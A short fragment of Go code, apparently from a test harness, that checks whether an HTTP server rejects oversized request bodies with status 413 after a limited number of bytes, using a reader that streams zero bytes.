		p.try(err == nil && r.Status == http.StatusRequestEntityTooLarge && sent.Load() < 5<<20+16<<20,
			fmt.Sprintf("%d bytes -> %d after %d bytes sent in %v %v", total, r.Status, sent.Load(), time.Since(start).Round(time.Millisecond), err))
	}
	return p
}

type zeroReader struct{}

func (zeroReader) Read(p []byte) (int, error) { clear(p); return len(p), nil }
